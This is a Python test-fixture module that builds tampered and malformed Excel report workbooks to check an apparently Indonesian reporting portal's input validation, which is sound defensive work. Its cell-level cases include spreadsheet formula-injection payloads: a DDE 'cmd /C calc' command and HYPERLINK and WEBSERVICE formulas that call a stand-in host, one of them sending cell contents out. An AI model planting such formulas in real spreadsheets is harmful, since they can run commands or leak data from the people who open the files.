"""Reporting workbooks that can be read and yet must not be believed, each made from a real one.

`UNTRUSTED` is refused whole, `FAULTY` cell by cell; beside each stands what the reason must say.
"""

import io
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from typing import Any
from zipfile import ZipFile

from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from gugus.core.sheets import read_sheets
from rad.answers.stamp import MAGIC, sealed, unsealed
from rad.answers.table import HEADS, ROW_ID
from tests.core.test_sheets import repacked, saved
from tests.rad.hostile import Builder, edited

MARKER = 987_654_321
"""A number no report holds: replaced afterwards in the XML by what openpyxl would not write."""


def table(book: Workbook) -> Worksheet:
    """The sheet with the hidden column of row ids."""
    return next(
        sheet
        for sheet in book
        if any(cell.value == ROW_ID for row in sheet.iter_rows(max_row=30) for cell in row)
    )


def stamp_sheet(book: Workbook) -> Worksheet:
    return next(sheet for sheet in book if sheet["A1"].value == MAGIC)


def head_row(sheet: Worksheet) -> int:
    return next(row[0].row for row in sheet.iter_rows(max_row=30) if any(c.value == ROW_ID for c in row))


def column(sheet: Worksheet, name: str) -> int:
    """The number of a column by our name for it (`value`, `narrative`, …)."""
    return next(cell.column for cell in sheet[head_row(sheet)] if cell.value == HEADS[name])


def cell(book: Workbook, name: str, line: int = 0) -> Cell:
    """A cell of the table by column and line, counted from 0 below the head."""
    sheet = table(book)
    return sheet.cell(head_row(sheet) + 1 + line, column(sheet, name))


def put(name: str, value: Any, *, text: bool = False) -> Builder:
    """The first row's cell filled; `text` keeps what begins like a formula a string."""

    def change(book: Workbook) -> None:
        place = cell(book, name)
        place.value = value
        if text:
            place.data_type = "s"

    return lambda data: edited(data, change)


def put_xml(name: str, number: bytes) -> Builder:
    """The first row's cell filled with a number only hand-written XML can hold."""

    def build(data: bytes) -> bytes:
        marked = put(name, MARKER)(data)
        with ZipFile(io.BytesIO(marked)) as file:
            names = [name for name in file.namelist() if "worksheets/sheet" in name]
        old, new = b"<v>%d</v>" % MARKER, b"<v>%s</v>" % number
        return repacked(marked, change=dict.fromkeys(names, lambda xml: xml.replace(old, new)))

    return build


def changed(change: Callable[[Workbook], object]) -> Builder:
    return lambda data: edited(data, change)


def without_stamp(book: Workbook) -> None:
    book.remove(stamp_sheet(book))


def altered_stamp(book: Workbook) -> None:
    """One letter of the signed token."""
    place = stamp_sheet(book)["A2"]
    place.value = ("x" if place.value[0] != "x" else "y") + place.value[1:]


def old_schema(data: bytes) -> bytes:
    """Signed by the portal, but before the columns changed."""
    old = replace(unsealed(read_sheets(data)), schema=0)

    def change(book: Workbook) -> None:
        sheet = stamp_sheet(book)
        sheet.delete_rows(2, sheet.max_row)
        for number, piece in enumerate(sealed(old), 2):
            sheet.cell(number, 1, piece)

    return edited(data, change)


def as_csv(data: bytes) -> bytes:
    rows = table(load_workbook(io.BytesIO(data))).iter_rows(values_only=True)
    return "\n".join(";".join(str(value or "") for value in row) for row in rows).encode()


def another_workbook(_data: bytes) -> bytes:
    book = Workbook()
    book.active.append(["Kegiatan", "Realisasi"])
    book.active.append(["Sosialisasi", 5])
    return saved(book)


def without_column(name: str) -> Builder:
    def change(book: Workbook) -> None:
        sheet = table(book)
        place = next(c.column for c in sheet[head_row(sheet)] if c.value == HEADS[name])
        sheet.delete_cols(place)

    return changed(change)


def head_twice(book: Workbook) -> None:
    sheet = table(book)
    sheet.cell(head_row(sheet), sheet.max_column + 1, HEADS["value"])


def row_twice(book: Workbook) -> None:
    """The first row copied below the table, id and all."""
    sheet = table(book)
    line, last = head_row(sheet) + 1, sheet.max_row + 1
    for place in list(sheet[line]):
        sheet.cell(last, place.column, place.value)


def foreign_id(book: Workbook) -> None:
    cell(book, "row").value = "0" * 32


def rows_mixed(book: Workbook) -> None:
    """One column sorted apart from the others."""
    cell(book, "indicator").value = "Indikator kegiatan lain"


def merged_over(book: Workbook) -> None:
    sheet = table(book)
    place = cell(book, "value")
    sheet.merge_cells(f"{place.coordinate}:{place.offset(0, 1).coordinate}")


UNTRUSTED: dict[str, tuple[Builder, str]] = {
    "no stamp": (changed(without_stamp), "bukan berkas laporan dari portal"),
    "a stamp with one letter changed": (changed(altered_stamp), "rusak atau diubah"),
    "a stamp of an older schema": (old_schema, "portal versi lama"),
    "saved as CSV": (as_csv, "bukan berkas laporan dari portal"),
    "some other workbook": (another_workbook, "bukan berkas laporan dari portal"),
    "no row ids": (without_column("row"), "Penanda baris"),
    "a column taken away": (without_column("value"), "Kolom “Realisasi” tidak ditemukan"),
    "a column twice": (changed(head_twice), "ada dua kali"),
    "not a number": (put_xml("value", b"NaN"), "rusak"),
    "infinity": (put_xml("value", b"INF"), "rusak"),
    "the sheet twice": (changed(lambda book: book.copy_worksheet(table(book))), "lebih dari satu lembar"),
}
FAULTY: dict[str, tuple[Builder, str]] = {
    "a formula for a number": (put("value", "=1+1"), "rumus"),
    "a formula for a text": (put("narrative", '=HYPERLINK("http://jahat.contoh","klik")'), "rumus"),
    "a command by DDE": (put("obstacles", "=cmd|' /C calc'!A0"), "rumus"),
    "a formula that reaches out": (put("follow_up", '=WEBSERVICE("http://jahat.contoh/"&A1)'), "rumus"),
    "cells merged over data": (changed(merged_over), "digabung"),
    "a row twice": (changed(row_twice), "kembar"),
    "a row of another plan": (changed(foreign_id), "Penanda baris ini tidak dikenal"),
    "columns sorted apart": (changed(rows_mixed), "tidak cocok"),
    "a number of 308 digits": (put_xml("value", b"1e308"), "terlalu besar"),
    "a number of 25 digits": (put("value", "1234567890123456789012345", text=True), ""),
    "a date for a number": (put("value", date(2026, 3, 1)), "tanggal"),
    "less than nothing": (put("value", -5), "negatif"),
    "a half of what is counted whole": (put("value", 2.5), "bulat"),
    "an error": (put("value", "#REF!"), "#REF!"),
    "yes for a number": (put("value", True), ""),
    "words for a number": (put("value", "banyak sekali"), ""),
    "a hundred thousand letters": (put("narrative", "panjang " * 12_500), "terlalu panjang"),
    "somebody's NIK": (put("narrative", "Korban ber-NIK 3571990101900001."), "NIK"),
}
